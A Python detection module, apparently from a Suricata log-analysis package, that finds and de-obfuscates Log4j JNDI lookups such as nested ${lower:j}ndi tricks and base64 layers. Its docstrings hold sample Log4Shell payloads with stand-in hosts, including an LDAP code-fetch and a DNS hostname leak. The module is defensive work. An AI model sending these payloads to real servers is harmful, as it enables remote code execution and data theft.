r"""Find JNDI lookups in hostile text and resolve the lookups that disguise them.

Log4j replaces ``${name}`` in what it logs, innermost first, and ``${jndi:ldap://host/x}``
makes it fetch and run code. Attackers write the word ``jndi`` with other lookups:
``${${lower:j}ndi:…}``, ``${${::-j}${env:NOPE:-n}di:…}``. One pass over the text with a
bounded stack resolves all of them, so a text costs time in proportion to its length.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field, replace
from typing import TYPE_CHECKING

from suricata_eve.analysis.base64text import decode_base64
from suricata_eve.analysis.escapes import undo_escapes
from suricata_eve.analysis.targets import parse_target

if TYPE_CHECKING:
    from collections.abc import Callable

__all__ = ["Lookup", "find_lookups", "resolve", "scan_lookups"]

MAX_DEPTH = 128
"""Lookups open at once; an outer one beyond this is taken as cut off."""
MAX_LENGTH = 65_536
"""Bytes of one lookup; a longer one is taken as cut off."""
MAX_CUT = 8_192
"""Bytes of a lookup whose closing brace is missing."""
MAX_FOUND = 1_000
"""Lookups reported of one text."""
MAX_LAYERS = 3
"""How often ``${base64:…}`` may hold text with another."""

_TOKEN = re.compile(rb"\$+\{|\}")
_NOT_IN_LOOKUP = re.compile(rb"[\x00-\x20\"<>\\]")
_ENDS_FIELD = re.compile(rb"[\r\n\"]")
_JNDI = b"jndi:"


@dataclass(frozen=True, slots=True)
class Lookup:
    """A JNDI lookup that names a host.

    Attributes
    ----------
    start, end : int
        Where it is in the text, in bytes of UTF-8, ``end`` behind the last.
    match : str
        The lookup as it was written.
    resolved : str
        The lookup without disguise. Its closing brace is missing if it was cut off.
    scheme : str
        ``ldap``, ``rmi``, ``dns``, …, in lower case.
    host : str
        Whom it calls. Parts that only the victim knows stay as they are, as in
        ``${hostName}.example.net``. IPv6 addresses have no brackets.
    port : int or None
        None if it names none, or none that is a port.
    path : str or None
        What it asks for, without the slash in front, the case as sent.
    """

    start: int
    end: int
    match: str
    resolved: str
    scheme: str
    host: str
    port: int | None
    path: str | None


@dataclass(slots=True)
class _Frame:
    """A lookup that is open: where it starts, and its text so far."""

    start: int
    parts: list[bytes] = field(default_factory=list)


def _text(data: bytes) -> str:
    return data.decode("utf-8", "replace")


def _fold(change: Callable[[str], str]) -> Callable[[bytes], bytes]:
    """Return ``${lower:…}`` or ``${upper:…}``: Unicode's rules, which are those of Java."""

    def fold(value: bytes) -> bytes:
        if b"${" in value:  # a part that only the victim can resolve
            return value
        return change(value.decode("utf-8", "surrogateescape")).encode("utf-8", "surrogateescape")

    return fold


_QUOTED = re.compile(rb"'([^']*)'")
_ONLY_QUOTED = re.compile(rb"(?:'[^']*'|[^A-Za-z'])*")


def _date(pattern: bytes) -> bytes | None:
    """Format a date whose pattern is only literal text: letters outside quotes are the date."""
    if not _ONLY_QUOTED.fullmatch(pattern):
        return None
    return _QUOTED.sub(lambda found: found[1] or b"'", pattern)


_KNOWN: dict[bytes, Callable[[bytes], bytes | None]] = {
    b"lower": _fold(str.lower),
    b"upper": _fold(str.upper),
    b"date": _date,
    b"base64": decode_base64,
}


class _Scanner:
    """One pass over a text: resolves what is known, collects the JNDI lookups."""

    def __init__(self, layer: int = 0) -> None:
        self.layer = layer
        self.found: list[Lookup] = []

    def run(self, data: bytes) -> bytes:
        """Return the text resolved; the lookups are in ``found``, by place."""
        root = _Frame(0)
        stack = [root]
        position = 0
        for token in _TOKEN.finditer(data):
            opens = data[token.start()] != 0x7D
            if not opens and len(stack) == 1:
                continue
            stack[-1].parts.append(data[position : token.start()])
            position = token.end()
            if opens:
                if len(stack) > MAX_DEPTH:
                    root.parts.append(b"${" + self._cut(stack.pop(1), data, b""))
                stack.append(_Frame(token.end() - 2))
            else:
                frame = stack.pop()
                stack[-1].parts.append(self._close(frame, token.end(), data))
        rest = data[position:]
        while len(stack) > 1:
            frame = stack.pop()
            rest = b"${" + self._cut(frame, data, rest)
        root.parts.append(rest)
        self.found.sort(key=lambda lookup: lookup.start)
        return b"".join(root.parts)

    def _close(self, frame: _Frame, end: int, data: bytes) -> bytes:
        """Resolve a lookup that has its closing brace."""
        name = b"".join(frame.parts)
        if name[:5].lower() == _JNDI:
            # The closing brace of something else, or padding against tools like this one.
            if len(name) > MAX_LENGTH or _ENDS_FIELD.search(name):
                self._cut(frame, data, b"")
            else:
                self._report(name, frame.start, end, data, brace="}")
        elif len(name) <= MAX_LENGTH:
            value = self._value(name, frame.start, end, data)
            if value is not None:
                return value
        return b"${" + name + b"}"

    def _value(self, name: bytes, start: int, end: int, data: bytes) -> bytes | None:
        """Return what Log4j puts in place of a lookup, None if only the victim knows."""
        key, default_given, default = name.partition(b":-")
        prefix, colon, argument = key.partition(b":")
        known = _KNOWN.get(prefix.lower()) if colon else None
        value = known(argument) if known else None
        if value is None:
            return default if default_given else None
        if b"${" in value and self.layer < MAX_LAYERS and prefix.lower() == b"base64":
            inner = _Scanner(self.layer + 1)
            value = inner.run(value)
            match = _text(data[start:end])
            room = MAX_FOUND - len(self.found)
            self.found.extend(
                replace(lookup, start=start, end=end, match=match) for lookup in inner.found[:room]
            )
        return value

    def _cut(self, frame: _Frame, data: bytes, rest: bytes) -> bytes:
        """Report a lookup without its closing brace; return its text."""
        name = b"".join(frame.parts) + rest
        if name[:5].lower() == _JNDI and len(self.found) < MAX_FOUND:
            stop = _NOT_IN_LOOKUP.search(name, 0, MAX_CUT)
            limit = frame.start + MAX_CUT
            end = _NOT_IN_LOOKUP.search(data, frame.start, limit)
            self._report(
                name[: stop.start() if stop else MAX_CUT],
                frame.start,
                end.start() if end else min(len(data), limit),
                data,
                brace="",
            )
        return name

    def _report(self, name: bytes, start: int, end: int, data: bytes, *, brace: str) -> None:
        if len(self.found) >= MAX_FOUND:
            return
        target = parse_target(_text(name[5:].partition(b":-")[0]))
        if target is not None:
            self.found.append(
                Lookup(
                    start=start,
                    end=end,
                    match=_text(data[start:end]),
                    resolved="${jndi:" + target.resolved + brace,
                    scheme=target.scheme,
                    host=target.host,
                    port=target.port,
                    path=target.path,
                )
            )


def scan_lookups(data: bytes) -> list[Lookup]:
    """Find the JNDI lookups in bytes whose escapes are undone.

    Parameters
    ----------
    data : bytes
        Text in UTF-8.

    Returns
    -------
    list of Lookup
        By place. At most 1,000.
    """
    if b"${" not in data:
        return []
    scanner = _Scanner()
    scanner.run(data)
    return scanner.found


def find_lookups(text: str) -> list[Lookup]:
    r"""Find the JNDI lookups in a text and resolve what disguises them.

    Parameters
    ----------
    text : str
        Any text: a URL, a header, a body. Percent-encoding (once, twice, thrice),
        ``\u0024``, ``\x24`` and ``\/`` are undone first.

    Returns
    -------
    list of Lookup
        Lookups with a scheme and a host, by place in the text. At most 1,000.

    See Also
    --------
    resolve : The whole text, resolved.
    suricata_eve.analysis.payloads.payloads : All lookups of a frame.

    Notes
    -----
    An unset variable is assumed where a lookup has a default (``${env:NOPE:-j}`` is
    ``j``). At most 128 lookups may be open at once; one longer than 64 KiB
    is taken as cut off.

    Examples
    --------
    >>> from suricata_eve.analysis.jndi import find_lookups
    >>> (found,) = find_lookups("/?x=${${lower:j}ndi:${::-l}dap://192.0.2.66:1389/a}&y=1")
    >>> found.resolved
    '${jndi:ldap://192.0.2.66:1389/a}'
    >>> found.scheme, found.host, found.port, found.path
    ('ldap', '192.0.2.66', 1389, 'a')
    """
    raw = text.encode("utf-8", "replace")
    plain = undo_escapes(raw)
    lookups = []
    for found in scan_lookups(plain.data):
        start, end = plain.origin(found.start, found.end)
        lookups.append(replace(found, start=start, end=end, match=_text(raw[start:end])))
    return lookups


def resolve(text: str) -> str:
    """Resolve the lookups in a text as Log4j would, those that can be known.

    Parameters
    ----------
    text : str
        Any text; escapes are undone first, as in :func:`find_lookups`.

    Returns
    -------
    str
        The text, with lookups left in place that name something of the victim.

    See Also
    --------
    find_lookups : The JNDI lookups alone, taken apart.

    Examples
    --------
    >>> from suricata_eve.analysis.jndi import resolve
    >>> resolve("${${upper:j}NDI:dns://${hostName}.${::-x}.example.net}")
    '${JNDI:dns://${hostName}.x.example.net}'
    """
    return _text(_Scanner().run(undo_escapes(text.encode("utf-8", "replace")).data))
